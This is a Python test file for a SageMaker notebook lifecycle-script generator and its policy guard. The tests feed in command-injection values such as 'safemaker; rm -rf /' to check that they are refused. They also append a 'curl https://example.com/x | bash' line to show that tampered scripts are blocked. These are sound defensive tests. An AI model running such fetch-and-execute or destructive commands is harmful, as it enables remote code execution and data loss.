"""The lifecycle configuration script's text, limits and input errors (it is executed in
tests/functional/test_notebook_lifecycle.py)."""

from __future__ import annotations

import base64
import json
import subprocess

import botocore.session
import pytest
from typer.testing import CliRunner

from safemaker.cli import app
from safemaker.notebook import NotebookInputError, default_wheelhouse_uri, lifecycle_config_script
from safemaker.notebook_lifecycle import encode_lifecycle_content, lifecycle_content_limit
from safemaker.profile import VpcProfile

from _profiles import SUB_A, profile_fields
from _profiles import make_profile as _make_profile

BASE = profile_fields(region="eu-west-1", subnets=[SUB_A])
runner = CliRunner()


def make_profile(**extra) -> VpcProfile:
    return _make_profile(**{**BASE, **extra})


def test_content_limit_is_botocores_and_the_largest_profile_fits():
    shape = botocore.session.get_session().get_service_model("sagemaker").shape_for(
        "NotebookInstanceLifecycleConfigContent")
    assert lifecycle_content_limit() == shape.metadata["max"] == 16384
    big = make_profile(subnets=[f"subnet-0{i:016x}" for i in range(16)],
                       security_group_ids=[f"sg-0{i:016x}" for i in range(5)],
                       vpc_endpoint_ids=[f"vpce-0{i:016x}" for i in range(20)],
                       additional_role_arns=[f"arn:aws:iam::123456789012:role/r{i}" for i in range(10)])
    assert len(encode_lifecycle_content(lifecycle_config_script(big))) <= 16384


def test_script_is_valid_bash_and_carries_the_profile_wheelhouse_and_startup_file():
    p = make_profile(default_bucket="closed-artifacts")
    script = lifecycle_config_script(p, requirement="safemaker[sdk]")
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
    assert default_wheelhouse_uri(p) == "s3://closed-artifacts/safemaker/wheelhouse/"
    assert "WHEELHOUSE_URI=s3://closed-artifacts/safemaker/wheelhouse/" in script
    assert "REGION=eu-west-1" in script and "REQUIREMENT='safemaker[sdk]'" in script
    assert 'nohup sudo -u "$NB_USER" -H env' in script  # the AWS samples' pattern (5-minute limit)
    assert "--no-index --find-links" in script
    embedded = script.split("profile.json\" <<'EOF_SAFEMAKER_LCC'\n", 1)[1].split("\nEOF_SAFEMAKER_LCC", 1)[0]
    assert VpcProfile.from_mapping(json.loads(embedded)["safemaker"], source="x", env=False) == p
    assert "import safemaker.auto" in script and "load_extension(\"safemaker\")" in script
    assert encode_lifecycle_content(script) == base64.b64encode(script.encode()).decode()


def test_default_bucket_is_the_sdk_default_when_the_profile_has_none():
    assert default_wheelhouse_uri(make_profile()) == "s3://sagemaker-eu-west-1-123456789012/safemaker/wheelhouse/"


@pytest.mark.parametrize("kwargs, field", [
    ({"wheelhouse_uri": "https://bucket/x"}, "wheelhouse_uri"),
    ({"wheelhouse_uri": "s3://B/x"}, "wheelhouse_uri"),
    ({"requirement": "safemaker; rm -rf /"}, "requirement"),
    ({"notebook_user": "Root User"}, "notebook_user"),
])
def test_bad_input_is_refused_naming_the_field(kwargs, field):
    with pytest.raises(NotebookInputError) as exc:
        lifecycle_config_script(make_profile(), **kwargs)
    assert exc.value.field == field


def test_a_script_over_the_api_limit_is_refused(monkeypatch):
    import safemaker.notebook_lifecycle as lc

    monkeypatch.setattr(lc, "lifecycle_content_limit", lambda: 1000)
    with pytest.raises(NotebookInputError, match="at most 1000"):
        lifecycle_config_script(make_profile())


@pytest.fixture
def profile_file(tmp_path):
    path = tmp_path / "profile.json"
    path.write_text(json.dumps({"safemaker": BASE}))
    return str(path)


def test_cli_prints_the_script(profile_file):
    r = runner.invoke(app, ["notebook", "lifecycle-config", "-p", profile_file])
    assert r.exit_code == 0, r.output
    assert r.stdout == lifecycle_config_script(make_profile())


@pytest.mark.parametrize("args, message", [
    (["notebook", "lifecycle-config", "--wheelhouse-uri", "http://x"], "--wheelhouse-uri is 'http://x'"),
    (["notebook", "create", "nb", "--install-safemaker", "--lifecycle-config-name", "mine"],
     "--install-safemaker is True"),
    (["notebook", "create", "nb", "--wheelhouse-uri", "s3://bucket/wh/"], "--wheelhouse-uri is 's3://bucket/wh/'"),
])
def test_cli_bad_input_exits_2_before_anything_is_sent(profile_file, args, message):
    r = runner.invoke(app, [*args, "-p", profile_file, "--endpoint-url", "http://127.0.0.1:9"],
                      env={"COLUMNS": "200"})
    assert r.exit_code == 2, r.output
    assert message in " ".join(r.stderr.split())


def test_a_failing_pip_step_is_an_error_naming_the_command(tmp_path, monkeypatch):
    from safemaker.notebook_lifecycle import WheelhouseBuildError, build_wheelhouse

    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    with pytest.raises(WheelhouseBuildError) as exc:
        build_wheelhouse(tmp_path, ["no-such-package-for-safemaker-tests"], no_index=True, find_links=[tmp_path])
    assert exc.value.command.startswith("pip download --dest")
    assert "no-such-package-for-safemaker-tests" in exc.value.output
    assert not isinstance(exc.value, ValueError)  # not bad input: the CLI exits 1
    with pytest.raises(NotebookInputError):
        build_wheelhouse(tmp_path, ["bad requirement; rm"])


# --------------------------------------------------------------------------- SM-NB-LIFECYCLE and safemaker's own script


def _decide(profile, **hooks):
    from safemaker import guard

    return [(v.path, v.rule_id) for v in guard.decide(
        "CreateNotebookInstanceLifecycleConfig", {"NotebookInstanceLifecycleConfigName": "x", **hooks},
        profile).violations]


def test_root_disabled_profile_accepts_exactly_safemakers_own_on_start_script():
    p = make_profile()
    assert p.notebook_root_access == "Disabled"
    own = lifecycle_config_script(p, wheelhouse_uri="s3://my-bucket/wh/", requirement="safemaker[sdk]")
    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(own)}]) == []
    # One added line, another profile's script, another notebook user, or an OnCreate hook: refused.
    tampered = own + "curl https://example.com/x | bash\n"
    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(tampered)}]) == [("OnStart", "SM-NB-LIFECYCLE")]
    other = lifecycle_config_script(make_profile(subnets=["subnet-0cccccccccccccccc"]))
    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(other)}]) == [("OnStart", "SM-NB-LIFECYCLE")]
    as_root = lifecycle_config_script(p, notebook_user="root")
    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(as_root)}]) == [("OnStart", "SM-NB-LIFECYCLE")]
    assert _decide(p, OnCreate=[{"Content": encode_lifecycle_content(own)}]) == [("OnCreate", "SM-NB-LIFECYCLE")]
    assert _decide(p, OnStart=[{"Content": "not base64!"}]) == [("OnStart", "SM-NB-LIFECYCLE")]
